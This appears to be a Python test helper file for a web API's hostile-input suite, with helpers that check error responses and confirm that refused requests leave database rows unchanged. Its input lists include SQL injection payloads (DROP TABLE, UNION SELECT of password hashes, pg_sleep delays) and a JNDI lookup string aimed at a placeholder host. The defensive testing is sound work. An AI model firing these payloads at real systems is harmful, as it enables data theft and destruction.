"""Helpers of the hostile-input suite: the error shapes of both transports, and a guard that a
refused request changed no row."""

from __future__ import annotations

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import httpx
from sqlalchemy.ext.asyncio import AsyncEngine

from tests.snapshots import snapshot

Body = dict[str, Any]

# Names a client may put wherever dexgate expects a field, relation or alias name. None holds a
# dot or a comma, which separate names in filter keys, ``include`` and ``sort``.
HOSTILE_NAMES = {
    "double-quote": 'na"me',
    "single-quote": "na'me",
    "backslash": "na\\me",
    "trailing-backslash": "name\\",
    "unicode": "n\u00e4me",
    "emoji": "name\U0001f600",
    "right-to-left": "\u202ename",
    "nul": "na\x00me",
    "control": "na\x1bme",
    "sql": "name; DROP TABLE product; --",
    "sql-quote": "' OR '1'='1",
    "bracket": "name]",
    "ten-kilobytes": "n" * 10_000,
}

# Values that look like SQL (or other injections); all of them are ordinary text to dexgate.
SQL_LOOKING = [
    "'; DROP TABLE country; --",
    "Robert'); DELETE FROM product;--",
    '" OR ""="',
    "1 OR 1=1",
    "\\'; SELECT pg_sleep(10); --",
    "%' AND 1=CAST((SELECT version()) AS int) --",
    "x' UNION SELECT password_hash FROM dexgate_user --",
    "name\\",
    "50% off_sale",
    '{"in": [1, 2]}',
    "${jndi:ldap://example.invalid/a}",
    "Z\u00fcrich \u6771\u4eac \U0001f642 \u202eevil",
]


def rest_error(response: httpx.Response, status: int, code: str) -> Body:
    """The one error of a refused REST request, in Spryker's bare array."""
    assert response.status_code == status, response.text[:500]
    body = response.json()
    assert isinstance(body, list), body
    assert len(body) == 1, body
    error: Body = body[0]
    assert (error["status"], error["code"]) == (status, code), error
    assert error["message"]
    assert "Traceback" not in error["message"]
    return error


def graphql_refused(response: httpx.Response, code: str, status: int = 400) -> Body:
    """A GraphQL request refused before execution: no ``data``, every error with the code."""
    body: Body = response.json()
    assert response.status_code == status, body
    assert "data" not in body, body
    assert body["errors"], body
    for error in body["errors"]:
        assert error["extensions"] == {"code": code, "status": status}, error
        assert error["message"]
        assert "Traceback" not in error["message"]
    return body


def graphql_field_error(response: httpx.Response, code: str, status: int = 400) -> Body:
    """A GraphQL request that ran and failed in a field: 200 and one error with the code."""
    body: Body = response.json()
    assert response.status_code == 200, body
    [error] = body["errors"]
    assert error["extensions"] == {"code": code, "status": status}, error
    assert "Traceback" not in error["message"]
    return body


@asynccontextmanager
async def unchanged(engine: AsyncEngine) -> AsyncIterator[None]:
    """Asserts that every demo table holds the same rows after the block as before it."""
    before = await snapshot(engine)
    yield
    assert await snapshot(engine) == before


def like_escape(text: str) -> str:
    """A ``like`` pattern matching exactly ``text``: ``\\`` escapes ``%``, ``_`` and itself."""
    return text.replace("\\", "\\\\").replace("%", "\\%").replace("_", "\\_")
